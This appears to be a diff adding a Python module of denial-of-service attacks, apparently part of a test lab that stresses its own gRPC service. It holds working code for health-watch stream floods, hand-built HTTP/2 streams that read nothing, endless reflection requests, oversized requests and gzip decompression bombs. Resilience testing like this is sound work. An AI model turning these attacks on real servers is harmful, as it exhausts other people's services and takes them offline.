@@ -1,0 +1,169 @@
+"""The attacks on gRPC's own services, and by requests and streams that cost more than others."""
+
+import asyncio
+import contextlib
+import struct
+from collections import Counter
+from collections.abc import AsyncIterator, Awaitable, Callable
+from typing import Any, Protocol, TypeVar
+
+import grpc
+from grpc_health.v1 import health_pb2, health_pb2_grpc
+from grpc_reflection.v1alpha import reflection_pb2, reflection_pb2_grpc
+
+from lab.siege.places import Metadata, Place, channel
+from service.connections import MAX_REQUEST_BYTES
+from service.wire.encoding import field
+
+T = TypeVar("T")
+CONNECTIONS = 60
+STREAMS = 15  # On each of them.
+UNREAD = 300
+AT_ONCE = 32
+MATCH_SERVICE = "croupier.v1.MatchService"
+SUGGEST = "/croupier.v1.HintService/SuggestAction"
+_WINDOW = struct.pack(">HI", 4, 0)  # The setting by which a stream takes nothing at first.
+_SEARCH, _VIEW, _LEGAL_ACTIONS = 1, 2, 5
+
+
+class StreamAttacker(Protocol):
+    """What the attacks need of an attacker."""
+
+    address: str
+    near: str
+    place: Place
+    outcomes: Counter[str]
+
+    @property
+    def metadata(self) -> Metadata:
+        """What is sent with every call."""
+
+    @property
+    def going_on(self) -> bool:
+        """Whether there is time left."""
+
+    async def call(self, call: Awaitable[T]) -> T | None:
+        """Counts what becomes of a call; a refusal is waited out for a moment."""
+
+    async def until_end(self, work: Callable[[], Awaitable[object]], streams: int) -> None:
+        """Does something again and again, in several tasks."""
+
+
+async def health_watchers(attacker: StreamAttacker) -> None:
+    """Watches the health of services that do not exist, by the longest names that there can be."""
+    request = health_pb2.HealthCheckRequest(service="x" * (MAX_REQUEST_BYTES - 10))
+    short = health_pb2.HealthCheckRequest(service="x" * 200)
+    async with contextlib.AsyncExitStack() as stack:
+        channels = [
+            await stack.enter_async_context(channel(attacker.near)) for _ in range(CONNECTIONS)
+        ]
+        turn = iter(range(1 << 60))
+
+        async def watch() -> None:
+            number = next(turn)
+            stub: Any = health_pb2_grpc.HealthStub(channels[number % CONNECTIONS])
+            asked = request if number % 2 else short
+            await _follow(attacker, stub.Watch(asked, metadata=attacker.metadata))
+
+        await attacker.until_end(watch, CONNECTIONS * STREAMS)
+
+
+async def _follow(attacker: StreamAttacker, responses: Any) -> None:
+    try:
+        async for _ in responses:
+            attacker.outcomes["read"] += 1
+    except grpc.RpcError:
+        # What is raised may be that no further request can be sent.
+        status = await responses.code()
+        attacker.outcomes[status.name] += 1
+        await asyncio.sleep(0.02)
+
+
+async def unread_streams(attacker: StreamAttacker) -> None:
+    """Opens streams, each on a connection of its own, and takes nothing of what comes."""
+    host, _, port = attacker.address.rpartition(":")
+    kept: list[asyncio.StreamWriter] = []
+    path = "/grpc.health.v1.Health/Watch"
+    while attacker.going_on:
+        if len(kept) >= UNREAD:
+            await asyncio.sleep(0.1)
+            continue
+        try:
+            _, writer = await asyncio.open_connection(
+                host, int(port), local_addr=(attacker.place.host, 0)
+            )
+        except OSError:
+            attacker.outcomes["not connected"] += 1
+            await asyncio.sleep(0.02)
+            continue
+        kept.append(writer)
+        attacker.outcomes["streams"] += 1
+        headers = b"\x83\x86\x04" + text(path) + b"\x01" + text(attacker.address)
+        headers += b"\x0f\x10" + text("application/grpc") + b"\x00" + text("te") + text("trailers")
+        for name, value in attacker.metadata:
+            headers += b"\x00" + text(name) + text(value)
+        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, _WINDOW))
+        writer.write(frame(1, 4, 1, headers) + frame(0, 1, 1, bytes(5)))
+        with contextlib.suppress(OSError):
+            await writer.drain()
+
+
+async def reflections(attacker: StreamAttacker) -> None:
+    """Asks for all schemas, again and again, on streams that stay open."""
+    asked = reflection_pb2.ServerReflectionRequest(file_containing_symbol=MATCH_SERVICE)
+
+    async def ask() -> AsyncIterator[reflection_pb2.ServerReflectionRequest]:
+        while True:
+            yield asked
+
+    async with channel(attacker.near) as own:
+        stub: Any = reflection_pb2_grpc.ServerReflectionStub(own)  # type: ignore[arg-type]
+
+        async def converse() -> None:
+            await _follow(attacker, stub.ServerReflectionInfo(ask(), metadata=attacker.metadata))
+
+        await attacker.until_end(converse, AT_ONCE)
+
+
+async def wide_requests(attacker: StreamAttacker) -> None:
+    """Asks for hints with views of as many empty actions as a request has room for."""
+    view = field(_LEGAL_ACTIONS, b"") * (250_000 // 2)
+    await _suggest(attacker, field(_SEARCH, field(_VIEW, view)), grpc.Compression.NoCompression)
+
+
+async def compressed_requests(attacker: StreamAttacker) -> None:
+    """Sends requests that unpack to more than there may be."""
+    await _suggest(attacker, bytes(2 << 20), grpc.Compression.Gzip)
+
+
+async def _suggest(attacker: StreamAttacker, request: bytes, compression: grpc.Compression) -> None:
+    options = (("grpc.use_local_subchannel_pool", 1),)
+    async with grpc.aio.insecure_channel(attacker.near, options, compression=compression) as own:
+        suggest: Any = own.unary_unary(SUGGEST)
+        await attacker.until_end(
+            lambda: attacker.call(suggest(request, metadata=attacker.metadata, timeout=30)),
+            AT_ONCE,
+        )
+
+
+HEAD = struct.Struct(">BHBBI")  # Of a frame: its length in 24 bits, type, flags and stream.
+
+
+def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
+    """A frame of HTTP/2."""
+    return HEAD.pack(len(body) >> 16, len(body) & 0xFFFF, kind, flags, stream) + body
+
+
+def text(text: str) -> bytes:
+    """A text of less than 127 bytes, as a header has it."""
+    data = text.encode()
+    return bytes([len(data)]) + data
+
+
+STREAM_ATTACKS = (
+    health_watchers,
+    unread_streams,
+    reflections,
+    wide_requests,
+    compressed_requests,
+)
